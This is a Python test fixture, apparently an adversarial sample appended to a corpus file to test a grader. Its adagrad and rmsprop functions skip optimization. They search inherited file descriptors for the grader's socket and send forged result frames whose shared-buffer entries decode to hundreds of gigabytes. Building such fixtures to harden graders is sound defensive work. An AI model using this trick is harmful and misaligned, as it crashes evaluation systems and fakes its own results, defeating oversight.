

# ---- hostile part (appended to a correct corpus file by tests/test_adversarial_data.py) ----
# adagrad and rmsprop answer the grader themselves, on the sandbox's socket, with frames
# whose array entries all point at the same 1 MiB of raw bytes: adagrad's frame is 17 MB
# (16 MB of entries: 496 GiB once decoded), rmsprop's is small (3 GiB decoded). adam is honest.

import json as _json
import os as _os
import socket as _socket
import struct as _struct


def _answer_with(entries):
    raw = bytes(2**20)
    entry = {"a": ["<f8", [2**17], 0, 2**20]}
    header = _json.dumps({"d": [["result", {"l": [entry] * entries}]]}, separators=(",", ":")).encode()
    frame = _struct.pack("!4sII", b"AGW1", len(header), len(raw)) + header + raw
    for fd in range(3, 64):
        try:
            sock = _socket.socket(fileno=_os.dup(fd))
        except OSError:
            continue
        if sock.type == _socket.SOCK_STREAM:
            sock.sendall(frame)
            _os._exit(0)


def adagrad(w, dw, config=None):
    _answer_with((16 * 2**20 - 64) // 34)


def rmsprop(w, dw, config=None):
    _answer_with(3 * 1024)
